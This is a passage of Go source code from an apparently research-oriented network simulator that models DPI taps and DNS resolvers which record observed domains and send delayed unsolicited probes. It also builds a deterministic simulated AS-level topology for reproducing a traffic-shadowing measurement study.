		Rules: []ProbeRule{{Kind: ProbeDNS, Prob: 1, Count: CountDist{Min: 1, Max: 1},
			Delay: DelayDist{Ranges: []DelayRange{{Min: time.Minute, Max: time.Minute, Weight: 1}}}}},
	}, []Origin{origin}, 13, router)

	// An HTTP request crosses the wire toward some web server (no server
	// needed: the tap sees it en route).
	client := netsim.NewHost(n, wire.MustParseAddr("100.64.0.1"))
	req := httpwire.NewGET("watched.www.experiment.domain", "/").Encode()
	client.SendRawTCPPayload(n, wire.Endpoint{Addr: wire.MustParseAddr("203.0.113.1"), Port: 80}, 64, 1, req)

	// A DNS decoy also crosses, but the device only watches HTTP.
	q := dnswire.NewQuery(1, "unwatched.www.experiment.domain", dnswire.TypeA)
	qp, _ := q.Encode()
	client.SendUDPOneShot(n, wire.Endpoint{Addr: wire.MustParseAddr("203.0.113.2"), Port: 53}, 64, 2, qp)

	n.RunUntilIdle()
	if len(authLog) != 1 || authLog[0] != "watched.www.experiment.domain" {
		t.Fatalf("auth log = %v", authLog)
	}
	if dev.Stats().Observed != 1 {
		t.Errorf("device observed = %d", dev.Stats().Observed)
	}
}

func TestProbeKindString(t *testing.T) {
	if ProbeDNS.String() != "DNS" || ProbeHTTP.String() != "HTTP" || ProbeHTTPS.String() != "HTTPS" {
		t.Error("probe kind names")
	}
}
