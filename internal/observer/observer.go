// Package observer implements traffic-shadowing exhibitors: the parties
// that silently record domains from passing traffic and later emit
// unsolicited requests bearing them.
//
// Two deployment modes share one behavior engine (Exhibitor):
//
//   - Device — an on-path DPI tap attached to a netsim.Router, sniffing
//     QNAME/Host/SNI from packets on the wire (the HTTP/TLS observers of
//     Section 5.2, found mid-path via Phase II tracerouting);
//   - resolver-side exhibitors — public DNS resolvers that retain query
//     names at the destination (the dominant DNS mode, 99.7% of problematic
//     paths in Table 2); internal/resolversim calls into an Exhibitor from
//     its query handler.
//
// Exhibitors are ground truth: the measurement pipeline never reads their
// state. Tests verify the pipeline *recovers* their placement and timing
// from honeypot and traceroute evidence alone.
package observer

import (
	"math/rand"
	"sync"
	"time"

	"shadowmeter/internal/decoy"
	"shadowmeter/internal/dnswire"
	"shadowmeter/internal/httpwire"
	"shadowmeter/internal/intel"
	"shadowmeter/internal/netsim"
	"shadowmeter/internal/tlswire"
	"shadowmeter/internal/wire"
)

// ProbeKind is the protocol of an unsolicited probe.
type ProbeKind int

// Probe kinds.
const (
	ProbeDNS ProbeKind = iota
	ProbeHTTP
	ProbeHTTPS
)

// String names the probe kind.
func (k ProbeKind) String() string {
	switch k {
	case ProbeDNS:
		return "DNS"
	case ProbeHTTP:
		return "HTTP"
	case ProbeHTTPS:
		return "HTTPS"
	default:
		return "?"
	}
}

// DelayRange is one weighted component of a delay mixture.
type DelayRange struct {
	Min, Max time.Duration
	Weight   int
}

// DelayDist is a weighted mixture of uniform delay ranges. The paper's
// Figure 4/7 CDFs are bimodal (seconds vs. days); a mixture reproduces that
// shape directly.
type DelayDist struct {
	Ranges []DelayRange
}

// Sample draws one delay.
func (d DelayDist) Sample(rng *rand.Rand) time.Duration {
	total := 0
	for _, r := range d.Ranges {
		total += r.Weight
	}
	if total == 0 {
		return 0
	}
	pick := rng.Intn(total)
	for _, r := range d.Ranges {
		pick -= r.Weight
		if pick < 0 {
			span := r.Max - r.Min
			if span <= 0 {
				return r.Min
			}
			return r.Min + time.Duration(rng.Int63n(int64(span)))
		}
	}
	return 0
}

// CountDist draws how many probes one observation triggers.
type CountDist struct {
	Min, Max int
}

// Sample draws a count in [Min, Max].
func (c CountDist) Sample(rng *rand.Rand) int {
	if c.Max <= c.Min {
		return c.Min
	}
	return c.Min + rng.Intn(c.Max-c.Min+1)
}

// ProbeRule schedules probes of one kind after an observation.
type ProbeRule struct {
	Kind  ProbeKind
	Prob  float64 // probability the rule fires for an observed domain
	Delay DelayDist
	Count CountDist
}

// Profile is the configured behavior of an exhibitor.
type Profile struct {
	Name string
	// Watch lists the decoy protocols this exhibitor sniffs (Device mode
	// only; resolver-side exhibitors are fed DNS names directly).
	Watch map[decoy.Protocol]bool
	// SampleRate is the fraction of observed domains recorded (1 = all).
	SampleRate float64
	// OncePerDomain suppresses re-observation of a domain already recorded
	// ("newly-observed domain" monitors).
	OncePerDomain bool
	// Rules are the probe schedules applied to each recorded domain.
	Rules []ProbeRule
	// PathFraction (Device mode) restricts the tap to a deterministic
	// subset of source addresses: a DPI box monitors specific ingress
	// links, so a path is either consistently shadowed or consistently
	// clean — the property Phase II tracerouting relies on. 0 or 1 means
	// all paths.
	PathFraction float64
	// PathSalt decorrelates path sampling between devices.
	PathSalt uint32
	// DstFilter (Device mode), when non-nil, restricts observation to
	// packets toward these destination addresses — e.g. DNS-tracking DPI
	// that only monitors traffic bound for well-known public resolvers.
	DstFilter map[wire.Addr]bool
}

// Origin is one machine an exhibitor launches unsolicited probes from. The
// set of origins — their networks and resolver choices — is what the
// paper's Figure 6 origin-AS analysis ultimately measures.
type Origin struct {
	Host *netsim.Host
	// Resolver is the recursive resolver this origin queries to look up
	// observed domains (e.g. Google Public DNS, giving AS15169 prominence
	// in Figure 6).
	Resolver wire.Addr
}

// Exhibitor is the shared behavior engine.
type Exhibitor struct {
	Profile
	origins []Origin
	// kindOrigins optionally overrides the origin pool per probe kind —
	// e.g. DNS lookups routed through Google Public DNS while HTTP probes
	// come from a security vendor's proxy fleet (the mix behind Figure 6's
	// origin-AS and blocklist findings).
	kindOrigins map[ProbeKind][]Origin
	rng         *rand.Rand

	mu    sync.Mutex
	seen  map[string]bool
	stats Stats

	// enc is probe-encode scratch: probes launch on the world's single
	// event-loop goroutine and SendUDPRequest copies the payload into the
	// packet synchronously, so one encoder per exhibitor is safe.
	//
	//shadowlint:eventloop
	enc dnswire.Encoder
	// launchBuf is ObserveDomain's scratch for the probes one observation
	// schedules; each Schedule closure captures its element by value, so
	// the backing array is reusable on the next observation.
	//
	//shadowlint:eventloop
	launchBuf []launch
}

// launch is one scheduled probe drawn from a profile rule.
type launch struct {
	kind   ProbeKind
	delay  time.Duration
	origin Origin
	path   string
}

// SetKindOrigins overrides the origin pool for one probe kind.
func (e *Exhibitor) SetKindOrigins(kind ProbeKind, origins []Origin) {
	if e.kindOrigins == nil {
		e.kindOrigins = make(map[ProbeKind][]Origin)
	}
	e.kindOrigins[kind] = origins
}

// originsFor returns the pool for a probe kind.
func (e *Exhibitor) originsFor(kind ProbeKind) []Origin {
	if o, ok := e.kindOrigins[kind]; ok && len(o) > 0 {
		return o
	}
	return e.origins
}

// Stats counts exhibitor activity (ground truth, for tests only).
type Stats struct {
	Observed       int64 // domains recorded
	ProbesLaunched int64
	// ClientExtractions counts successful domain extractions from packets
	// whose source the device's classifier marks as a measurement client —
	// i.e. what DPI pulled out of decoy traffic specifically, regardless of
	// path sampling. The mitigation study's headline number.
	ClientExtractions int64
}

// NewExhibitor builds an exhibitor with a deterministic RNG seed.
func NewExhibitor(p Profile, origins []Origin, seed int64) *Exhibitor {
	if p.SampleRate == 0 {
		p.SampleRate = 1
	}
	return &Exhibitor{
		Profile: p,
		origins: origins,
		rng:     rand.New(rand.NewSource(seed)),
		seen:    make(map[string]bool),
	}
}

// Stats snapshots the counters.
func (e *Exhibitor) Stats() Stats {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.stats
}

// ObserveDomain records one sniffed domain and schedules the profile's
// probes on the network's virtual clock.
func (e *Exhibitor) ObserveDomain(n *netsim.Network, domain string) {
	domain = dnswire.Canonical(domain)
	if domain == "" || len(e.origins) == 0 {
		return
	}
	e.mu.Lock()
	if e.OncePerDomain && e.seen[domain] {
		e.mu.Unlock()
		return
	}
	if e.SampleRate < 1 && e.rng.Float64() >= e.SampleRate {
		e.mu.Unlock()
		return
	}
	if e.OncePerDomain {
		e.seen[domain] = true
	}
	e.stats.Observed++

	launches := e.launchBuf[:0]
	for _, rule := range e.Rules {
		if rule.Prob < 1 && e.rng.Float64() >= rule.Prob {
			continue
		}
		count := rule.Count.Sample(e.rng)
		for i := 0; i < count; i++ {
			pool := e.originsFor(rule.Kind)
			launches = append(launches, launch{
				kind:   rule.Kind,
				delay:  rule.Delay.Sample(e.rng),
				origin: pool[e.rng.Intn(len(pool))],
				path:   intel.EnumerationPaths[e.rng.Intn(len(intel.EnumerationPaths))],
			})
		}
	}
	e.stats.ProbesLaunched += int64(len(launches))
	e.launchBuf = launches
	e.mu.Unlock()

	for _, l := range launches {
		l := l
		n.Schedule(l.delay, func() {
			e.launchProbe(n, l.origin, l.kind, domain, l.path)
		})
	}
}

// launchProbe performs one unsolicited request from origin.
func (e *Exhibitor) launchProbe(n *netsim.Network, origin Origin, kind ProbeKind, domain, path string) {
	switch kind {
	case ProbeDNS:
		e.resolve(n, origin, domain, nil)
	case ProbeHTTP:
		e.resolve(n, origin, domain, func(addr wire.Addr) {
			req := httpwire.NewGET(domain, path).Encode()
			origin.Host.SendTCPRequest(n, wire.Endpoint{Addr: addr, Port: 80}, req, netsim.TCPRequestOpts{})
		})
	case ProbeHTTPS:
		e.resolve(n, origin, domain, func(addr wire.Addr) {
			var random [32]byte
			e.mu.Lock()
			e.rng.Read(random[:])
			e.mu.Unlock()
			ch := tlswire.NewClientHello(domain, random)
			payload, err := ch.Encode()
			if err != nil {
				return
			}
			origin.Host.SendTCPRequest(n, wire.Endpoint{Addr: addr, Port: 443}, payload, netsim.TCPRequestOpts{})
		})
	}
}

// resolve queries the origin's resolver for domain; onA (if non-nil) runs
// with the first A record of the answer.
func (e *Exhibitor) resolve(n *netsim.Network, origin Origin, domain string, onA func(wire.Addr)) {
	e.mu.Lock()
	qid := uint16(e.rng.Intn(0xFFFF) + 1)
	e.mu.Unlock()
	q := dnswire.NewQuery(qid, domain, dnswire.TypeA)
	payload, err := q.AppendEncode(&e.enc)
	if err != nil {
		return
	}
	origin.Host.SendUDPRequest(n, wire.Endpoint{Addr: origin.Resolver, Port: 53}, payload, netsim.UDPRequestOpts{
		OnReply: func(n *netsim.Network, resp []byte) {
			if onA == nil {
				return
			}
			msg, err := dnswire.Decode(resp)
			if err != nil {
				return
			}
			for _, a := range msg.Answers {
				if a.Type == dnswire.TypeA {
					onA(a.Addr)
					return
				}
			}
		},
	})
}

// PathSampledExhibitor wraps an Exhibitor so that only a deterministic
// fraction of client paths is shadowed: whether a client's queries are
// recorded depends on a hash of the client address, not on chance per
// query. This models resolver operators that retain data for some ingress
// paths but not others — the reason Figure 3 shows ~70% (not 100%) of VP
// paths problematic toward heavy shadowers like Yandex.
type PathSampledExhibitor struct {
	Inner *Exhibitor
	// Fraction in [0,1]: the share of client addresses shadowed.
	Fraction float64
	// Salt decorrelates sampling across deployments.
	Salt uint32
}

// ObserveQuery implements resolversim.QueryObserver.
func (p *PathSampledExhibitor) ObserveQuery(n *netsim.Network, domain string, client wire.Addr) {
	if !p.sampled(client) {
		return
	}
	p.Inner.ObserveDomain(n, domain)
}

// ObserveDomain implements the plain interface (no client known: sampled
// as if from the zero address).
func (p *PathSampledExhibitor) ObserveDomain(n *netsim.Network, domain string) {
	p.Inner.ObserveDomain(n, domain)
}

func (p *PathSampledExhibitor) sampled(client wire.Addr) bool {
	if p.Fraction >= 1 {
		return true
	}
	if p.Fraction <= 0 {
		return false
	}
	h := client.Uint32()*2654435761 + p.Salt*40503
	h ^= h >> 16
	h *= 2246822519
	h ^= h >> 13
	return float64(h%10000) < p.Fraction*10000
}

// Device is an Exhibitor deployed as an on-path DPI tap.
type Device struct {
	*Exhibitor
	router      *netsim.Router
	classifySrc func(wire.Addr) bool
	// sniff interns extracted domains: taps run on the world's single
	// event-loop goroutine, so an unlocked per-device table is safe.
	sniff decoy.Sniffer
}

// SetSourceClassifier marks which source addresses count as measurement
// clients for the ClientExtractions statistic.
func (d *Device) SetSourceClassifier(fn func(wire.Addr) bool) { d.classifySrc = fn }

// NewDevice attaches a new exhibitor tap to router.
func NewDevice(p Profile, origins []Origin, seed int64, router *netsim.Router) *Device {
	d := &Device{Exhibitor: NewExhibitor(p, origins, seed), router: router}
	router.AttachTap(d)
	return d
}

// Router returns the router the device taps.
func (d *Device) Router() *netsim.Router { return d.router }

// Observe implements netsim.Tap: extract a domain the way a DPI box would
// and hand it to the behavior engine.
func (d *Device) Observe(n *netsim.Network, at *netsim.Router, pkt *wire.Packet) {
	var dstPort uint16
	var payload []byte
	switch {
	case pkt.UDP != nil:
		dstPort, payload = pkt.UDP.DstPort, pkt.UDP.Payload()
	case pkt.TCP != nil:
		dstPort, payload = pkt.TCP.DstPort, pkt.TCP.Payload()
	default:
		return
	}
	if len(payload) == 0 {
		return
	}
	domain, proto, ok := d.sniff.SniffDomain(dstPort, payload)
	if !ok {
		return
	}
	if d.Watch != nil && !d.Watch[proto] {
		return
	}
	if d.DstFilter != nil && !d.DstFilter[pkt.IP.Dst] {
		return
	}
	if d.classifySrc != nil && d.classifySrc(pkt.IP.Src) {
		d.mu.Lock()
		d.stats.ClientExtractions++
		d.mu.Unlock()
	}
	if d.PathFraction > 0 && d.PathFraction < 1 {
		ps := PathSampledExhibitor{Fraction: d.PathFraction, Salt: d.PathSalt}
		if !ps.sampled(pkt.IP.Src) {
			return
		}
	}
	d.ObserveDomain(n, domain)
}
