// Package topology builds the deterministic world the experiment runs in:
// countries, autonomous systems, routers, address plan, and inter-AS paths.
// It is the stand-in for real Internet routing (see DESIGN.md —
// substitution table).
//
// Path shapes follow the structure the paper's measurements traverse:
// source AS edge/core, provincial and backbone hops inside China (CHINANET
// AS4134 et al.), international gateways on CN border crossings, a tier-1
// transit segment elsewhere, then the destination AS. Every path is
// deterministic for a given seed, so Phase II traceroutes are repeatable.
package topology

import (
	"fmt"
	"math/rand"
	"sort"
	"sync"

	"shadowmeter/internal/geodb"
	"shadowmeter/internal/netsim"
	"shadowmeter/internal/wire"
)

// AS is one autonomous system in the simulated world.
type AS struct {
	ASN      int
	Name     string
	Country  string
	Province string // CN provincial ASes only
	Hosting  bool   // datacenter/cloud network (VPN-rentable)

	prefix    wire.Addr // network base
	prefixLen int
	Routers   []*netsim.Router

	hostCounter uint32
	used        map[wire.Addr]bool
}

// String renders "AS4134 CHINANET-BACKBONE".
func (a *AS) String() string { return fmt.Sprintf("AS%d %s", a.ASN, a.Name) }

// Prefix returns the AS's address block.
func (a *AS) Prefix() (wire.Addr, int) { return a.prefix, a.prefixLen }

// edge and core routers: Routers[0] is the customer-facing edge,
// Routers[len-1] the core/peering router.
func (a *AS) edge() *netsim.Router { return a.Routers[0] }
func (a *AS) core() *netsim.Router { return a.Routers[len(a.Routers)-1] }

// Config parameterizes Build.
type Config struct {
	Seed int64
	// CountryCount limits the world to the first N entries of Countries
	// (always including CN). 0 means all 82.
	CountryCount int
	// HostingASesPerCountry is how many datacenter ASes each non-CN country
	// hosts (VP placement pool). 0 means 1.
	HostingASesPerCountry int
	// RoutersPerAS sets routers per stub AS. 0 means 2.
	RoutersPerAS int
	// ICMPSilentFraction is the probability a router never answers ICMP,
	// modeling incomplete traceroutes. Negative means 0; default 0.08.
	ICMPSilentFraction float64
}

// Topology is the built world.
type Topology struct {
	Geo *geodb.DB

	mu        sync.Mutex
	ases      map[int]*AS
	byCountry map[string][]*AS

	cnProvincial map[string]*AS // province name -> AS
	cnBackbone   *AS            // AS4134
	cnGateways   []*netsim.Router
	transit      []*AS

	next16    uint32 // next /16 allocation index
	taken16   map[uint32]bool
	nextASN   int
	silent    float64
	routersN  int
	rng       *rand.Rand
	pathCache map[[2]int][]*netsim.Router

	// buildOrder and routerBirths record construction order (AS creation
	// and router creation respectively) so a Blueprint snapshot can replay
	// them — including the one rng draw per router — byte-identically.
	buildOrder   []*AS
	routerBirths []routerBirth
	// cnGatewayIdx are the gateway positions within cnBackbone.Routers.
	cnGatewayIdx []int
	// bp is the shared blueprint this world was instantiated from, nil for
	// cold-built topologies. It carries the cross-world structural path
	// cache.
	bp *Blueprint
}

// routerBirth is one addRouter call in construction order.
type routerBirth struct {
	as  *AS
	idx int // index within as.Routers
}

// Build constructs the world.
func Build(cfg Config) *Topology {
	if cfg.HostingASesPerCountry <= 0 {
		cfg.HostingASesPerCountry = 1
	}
	if cfg.RoutersPerAS <= 0 {
		cfg.RoutersPerAS = 2
	}
	silent := cfg.ICMPSilentFraction
	if silent == 0 {
		silent = 0.08
	}
	if silent < 0 {
		silent = 0
	}
	t := &Topology{
		Geo:          geodb.New(),
		ases:         make(map[int]*AS),
		byCountry:    make(map[string][]*AS),
		cnProvincial: make(map[string]*AS),
		taken16:      make(map[uint32]bool),
		nextASN:      200000,
		silent:       silent,
		routersN:     cfg.RoutersPerAS,
		rng:          rand.New(rand.NewSource(cfg.Seed)),
		pathCache:    make(map[[2]int][]*netsim.Router),
	}

	countries := Countries
	if cfg.CountryCount > 0 && cfg.CountryCount < len(countries) {
		sub := append([]Country(nil), countries[:cfg.CountryCount]...)
		hasCN := false
		for _, c := range sub {
			if c.Code == "CN" {
				hasCN = true
			}
		}
		if !hasCN {
			sub = append(sub, Country{"CN", "China", 0})
		}
		countries = sub
	}

	// Global transit backbone first so paths can reference it. Transit
	// networks are not VPN-rentable datacenters: hosting=false keeps the
	// vantage platform from placing VPs inside observer ASes (which would
	// put tapped border routers at hop 1 of their own paths).
	for _, tr := range GlobalTransit {
		as := t.newAS(tr.ASN, tr.Name, tr.Country, false, 3)
		t.transit = append(t.transit, as)
	}

	// CHINANET backbone: a larger router fleet, since it shows up as the
	// dominant observer network in Tables 2-3.
	t.cnBackbone = t.newAS(ASNChinanetBackbone, "CHINANET-BACKBONE", "CN", false, 6)
	// Jiangsu backbone is distinct in Table 3.
	t.newAS(ASNJiangsuBackbone, "CHINANET jiangsu backbone", "CN", false, 3)
	// International gateways live on the CHINANET backbone.
	for i := 0; i < 3; i++ {
		gw := t.addRouter(t.cnBackbone, fmt.Sprintf("cn-intl-gw%d", i+1))
		t.cnGateways = append(t.cnGateways, gw)
		t.cnGatewayIdx = append(t.cnGatewayIdx, len(t.cnBackbone.Routers)-1)
	}

	// CN provincial networks.
	for _, p := range CNProvinces {
		as := t.newAS(p.ASN, p.ASName, "CN", false, cfg.RoutersPerAS)
		as.Province = p.Name
		t.cnProvincial[p.Name] = as
	}

	// Per-country hosting (VPN datacenter) and eyeball ASes.
	for _, c := range countries {
		if c.Code == "CN" {
			// CN hosting ASes for the 13 local VPN providers: one IDC per
			// province, so the platform can cover 30 of 31 provinces
			// (Table 1).
			for i, prov := range CNProvinces {
				as := t.newAS(t.allocASN(), fmt.Sprintf("CN-IDC-%d %s Cloud Datacenter", i+1, prov.Name), "CN", true, cfg.RoutersPerAS)
				as.Province = prov.Name
			}
			continue
		}
		for i := 0; i < cfg.HostingASesPerCountry; i++ {
			t.newAS(t.allocASN(), fmt.Sprintf("%s-DC-%d Hosting", c.Code, i+1), c.Code, true, cfg.RoutersPerAS)
		}
		t.newAS(t.allocASN(), fmt.Sprintf("%s Telecom", c.Code), c.Code, false, cfg.RoutersPerAS)
	}

	// Google's network exists from the start (Figure 6 origin analysis).
	t.newAS(ASNGoogle, "Google LLC", "US", true, 3)

	return t
}

// newAS creates an AS with a fresh /16 and nRouters routers.
func (t *Topology) newAS(asn int, name, country string, hosting bool, nRouters int) *AS {
	base := t.alloc16()
	as := &AS{
		ASN: asn, Name: name, Country: country, Hosting: hosting,
		prefix: base, prefixLen: 16,
		used: make(map[wire.Addr]bool),
	}
	t.register(as)
	for i := 0; i < nRouters; i++ {
		t.addRouter(as, fmt.Sprintf("r%d", i+1))
	}
	return as
}

// NewStubAS creates an additional stub AS (web-hosting fleets, probe-origin
// networks) with a fresh /16 and an auto-assigned ASN.
func (t *Topology) NewStubAS(name, country string, hosting bool) *AS {
	t.mu.Lock()
	asn := t.nextASN
	t.nextASN++
	t.mu.Unlock()
	return t.newAS(asn, name, country, hosting, t.routersN)
}

// AddServiceAS creates (or extends) the AS owning a fixed, well-known
// service address (public resolvers, root servers, Tranco front-ends). The
// /24 containing addr is registered to the AS, and addr is reserved.
func (t *Topology) AddServiceAS(asn int, name, country string, addr wire.Addr, hosting bool) *AS {
	t.mu.Lock()
	defer t.mu.Unlock()
	as, ok := t.ases[asn]
	if !ok {
		as = &AS{
			ASN: asn, Name: name, Country: country, Hosting: hosting,
			prefix: addr.Slash24(), prefixLen: 24,
			used: make(map[wire.Addr]bool),
		}
		t.registerLocked(as)
		for i := 0; i < 2; i++ {
			t.addRouterLocked(as, fmt.Sprintf("r%d", i+1))
		}
	} else {
		// Same operator, additional prefix (e.g. anycast instances).
		err := t.Geo.Register(addr.Slash24(), 24, geodb.Info{
			Country: country, ASN: asn, ASName: name, Hosting: hosting,
		})
		if err != nil {
			panic(fmt.Sprintf("topology: register %s/24: %v", addr, err))
		}
	}
	as.used[addr] = true
	t.taken16[addr.Slash24().Uint32()>>16] = true
	return as
}

func (t *Topology) register(as *AS) {
	t.mu.Lock()
	defer t.mu.Unlock()
	t.registerLocked(as)
}

func (t *Topology) registerLocked(as *AS) {
	t.ases[as.ASN] = as
	t.byCountry[as.Country] = append(t.byCountry[as.Country], as)
	t.buildOrder = append(t.buildOrder, as)
	err := t.Geo.Register(as.prefix, as.prefixLen, geodb.Info{
		Country: as.Country, ASN: as.ASN, ASName: as.Name, Hosting: as.Hosting,
	})
	if err != nil {
		// Prefixes are allocated by the topology builder itself; a bad one
		// is a construction bug, not a runtime condition.
		panic(fmt.Sprintf("topology: register %v/%d: %v", as.prefix, as.prefixLen, err))
	}
}

// addRouter appends a router to as, placed in a reserved corner of the
// AS's prefix.
func (t *Topology) addRouter(as *AS, name string) *netsim.Router {
	t.mu.Lock()
	defer t.mu.Unlock()
	return t.addRouterLocked(as, name)
}

func (t *Topology) addRouterLocked(as *AS, name string) *netsim.Router {
	var addr wire.Addr
	i := len(as.Routers)
	if as.prefixLen == 16 {
		addr = wire.Addr{as.prefix[0], as.prefix[1], 255, byte(1 + i)}
	} else {
		addr = wire.Addr{as.prefix[0], as.prefix[1], as.prefix[2], byte(240 + i)}
	}
	as.used[addr] = true
	r := &netsim.Router{
		Name:       fmt.Sprintf("AS%d-%s", as.ASN, name),
		Addr:       addr,
		ICMPSilent: t.rng.Float64() < t.silent,
	}
	as.Routers = append(as.Routers, r)
	t.routerBirths = append(t.routerBirths, routerBirth{as: as, idx: i})
	return r
}

// alloc16 hands out the next free /16 from 11.0.0.0 upward, skipping any
// /16 already containing a service prefix.
func (t *Topology) alloc16() wire.Addr {
	for {
		idx := t.next16
		t.next16++
		hi := byte(11 + idx/256)
		lo := byte(idx % 256)
		key := uint32(hi)<<8 | uint32(lo)
		if t.taken16[key] {
			continue
		}
		t.taken16[key] = true
		return wire.Addr{hi, lo, 0, 0}
	}
}

func (t *Topology) allocASN() int {
	n := t.nextASN
	t.nextASN++
	return n
}

// AllocHostAddr reserves and returns a fresh host address inside the AS.
func (t *Topology) AllocHostAddr(as *AS) wire.Addr {
	t.mu.Lock()
	defer t.mu.Unlock()
	for {
		c := as.hostCounter
		as.hostCounter++
		var addr wire.Addr
		if as.prefixLen == 16 {
			third := byte(c / 250)
			fourth := byte(1 + c%250)
			if third >= 255 {
				panic(fmt.Sprintf("topology: AS%d host space exhausted", as.ASN))
			}
			addr = wire.Addr{as.prefix[0], as.prefix[1], third, fourth}
		} else {
			fourth := 1 + c%239
			if c >= 239 {
				panic(fmt.Sprintf("topology: AS%d /24 host space exhausted", as.ASN))
			}
			addr = wire.Addr{as.prefix[0], as.prefix[1], as.prefix[2], byte(fourth)}
		}
		if as.used[addr] {
			continue
		}
		as.used[addr] = true
		return addr
	}
}

// AS returns the AS with the given number, or nil.
func (t *Topology) AS(asn int) *AS {
	t.mu.Lock()
	defer t.mu.Unlock()
	return t.ases[asn]
}

// ASOf maps an address to its AS via the geo database.
func (t *Topology) ASOf(addr wire.Addr) *AS {
	info, ok := t.Geo.Lookup(addr)
	if !ok {
		return nil
	}
	return t.AS(info.ASN)
}

// HostingASes returns the datacenter ASes in a country, sorted by ASN.
func (t *Topology) HostingASes(country string) []*AS {
	t.mu.Lock()
	defer t.mu.Unlock()
	var out []*AS
	for _, as := range t.byCountry[country] {
		if as.Hosting {
			out = append(out, as)
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].ASN < out[j].ASN })
	return out
}

// CountryASes returns every AS in a country, sorted by ASN.
func (t *Topology) CountryASes(country string) []*AS {
	t.mu.Lock()
	defer t.mu.Unlock()
	out := append([]*AS(nil), t.byCountry[country]...)
	sort.Slice(out, func(i, j int) bool { return out[i].ASN < out[j].ASN })
	return out
}

// Countries lists country codes present in the world.
func (t *Topology) Countries() []string {
	t.mu.Lock()
	defer t.mu.Unlock()
	out := make([]string, 0, len(t.byCountry))
	for c := range t.byCountry {
		out = append(out, c)
	}
	sort.Strings(out)
	return out
}

// NumASes reports the number of ASes in the world.
func (t *Topology) NumASes() int {
	t.mu.Lock()
	defer t.mu.Unlock()
	return len(t.ases)
}

// ChinanetBackbone returns AS4134.
func (t *Topology) ChinanetBackbone() *AS { return t.cnBackbone }

// ProvincialAS returns the CN provincial AS for a province name, or nil.
func (t *Topology) ProvincialAS(province string) *AS { return t.cnProvincial[province] }

// TransitASes returns the global transit pool.
func (t *Topology) TransitASes() []*AS { return t.transit }

// PathFunc adapts the topology for netsim.
func (t *Topology) PathFunc() netsim.PathFunc {
	return func(src, dst wire.Addr) []*netsim.Router {
		return t.Path(src, dst)
	}
}

// Path computes the router sequence between two addresses. Paths are
// symmetric in structure but computed per direction; results are cached per
// AS pair.
//
// The fast path takes no lock: the per-world cache map is read and written
// only by the world's own event-loop goroutine (the same single-goroutine
// contract the rest of netsim state lives under). Worlds instantiated from
// a shared Blueprint additionally consult its cross-world structural cache
// on a miss, so a path computed by one trial is reused — as router indices,
// resolved against this world's own routers — by every other trial.
func (t *Topology) Path(src, dst wire.Addr) []*netsim.Router {
	srcInfo, ok := t.Geo.Lookup(src)
	if !ok {
		return nil
	}
	dstInfo, ok := t.Geo.Lookup(dst)
	if !ok {
		return nil
	}
	key := [2]int{srcInfo.ASN, dstInfo.ASN}
	if p, ok := t.pathCache[key]; ok {
		return p
	}
	return t.pathSlow(key)
}

// pathSlow fills a per-world cache miss, sharing structural work through
// the blueprint when both endpoints are blueprint-native ASes.
func (t *Topology) pathSlow(key [2]int) []*netsim.Router {
	t.mu.Lock()
	src, dst := t.ases[key[0]], t.ases[key[1]]
	if src == nil || dst == nil {
		t.mu.Unlock()
		return nil
	}
	var p []*netsim.Router
	if t.bp != nil && t.bp.native[key[0]] && t.bp.native[key[1]] {
		if hops, ok := t.bp.loadPath(key); ok {
			p = t.resolveHops(hops)
		} else {
			p = t.buildPath(src, dst)
			t.bp.storePath(key, t.hopsFor(p))
		}
	} else {
		p = t.buildPath(src, dst)
	}
	t.mu.Unlock()
	t.pathCache[key] = p
	return p
}

// resolveHops maps structural hop references onto this world's routers.
func (t *Topology) resolveHops(hops []pathHop) []*netsim.Router {
	out := make([]*netsim.Router, len(hops))
	for i, h := range hops {
		out[i] = t.ases[h.asn].Routers[h.idx]
	}
	return out
}

// hopsFor converts a resolved path back into structural references. Every
// hop belongs to a blueprint-native AS when called (pathSlow guards), and
// routers sit at stable indices within their AS fleet.
func (t *Topology) hopsFor(p []*netsim.Router) []pathHop {
	hops := make([]pathHop, 0, len(p))
	for _, r := range p {
		info, ok := t.Geo.Lookup(r.Addr)
		if !ok {
			return nil
		}
		as := t.ases[info.ASN]
		idx := -1
		for j, rr := range as.Routers {
			if rr == r {
				idx = j
				break
			}
		}
		if idx < 0 {
			return nil
		}
		hops = append(hops, pathHop{asn: as.ASN, idx: idx})
	}
	return hops
}

// buildPath assembles the hop sequence. Deterministic: all "choices" hash
// the AS pair.
func (t *Topology) buildPath(src, dst *AS) []*netsim.Router {
	if src == dst {
		return []*netsim.Router{src.edge()}
	}
	h := pairHash(src.ASN, dst.ASN)
	var hops []*netsim.Router
	hops = append(hops, src.edge())
	if len(src.Routers) > 1 {
		hops = append(hops, src.core())
	}

	srcCN, dstCN := src.Country == "CN", dst.Country == "CN"
	switch {
	case srcCN && dstCN:
		// Provincial uplink -> national backbone -> provincial downlink.
		if p := t.provincialUplink(src); p != nil && p != src {
			hops = append(hops, p.core())
		}
		hops = append(hops, t.backboneRouter(h))
		if p := t.provincialUplink(dst); p != nil && p != dst {
			hops = append(hops, p.core())
		}
	case srcCN && !dstCN:
		if p := t.provincialUplink(src); p != nil && p != src {
			hops = append(hops, p.core())
		}
		hops = append(hops, t.backboneRouter(h))
		hops = append(hops, t.gateway(h))
		hops = append(hops, t.transitSegment(h)...)
	case !srcCN && dstCN:
		hops = append(hops, t.transitSegment(h)...)
		hops = append(hops, t.gateway(h>>3))
		hops = append(hops, t.backboneRouter(h>>5))
		if p := t.provincialUplink(dst); p != nil && p != dst {
			hops = append(hops, p.core())
		}
	default:
		hops = append(hops, t.transitSegment(h)...)
	}

	if len(dst.Routers) > 1 {
		hops = append(hops, dst.core())
	}
	hops = append(hops, dst.edge())
	return dedupeRouters(hops)
}

// provincialUplink finds the provincial ISP an AS homes to.
func (t *Topology) provincialUplink(as *AS) *AS {
	if as.Province != "" {
		if p, ok := t.cnProvincial[as.Province]; ok {
			return p
		}
	}
	// Non-provincial CN ASes (backbone etc.) have no provincial uplink.
	if as.ASN == ASNChinanetBackbone || as.ASN == ASNJiangsuBackbone {
		return nil
	}
	// Deterministic home province for service ASes without one.
	provs := CNProvinces
	return t.cnProvincial[provs[as.ASN%len(provs)].Name]
}

func (t *Topology) backboneRouter(h uint64) *netsim.Router {
	// Skip the gateway routers at the tail of the backbone's fleet.
	n := len(t.cnBackbone.Routers) - len(t.cnGateways)
	return t.cnBackbone.Routers[mod(h, n)]
}

func (t *Topology) gateway(h uint64) *netsim.Router {
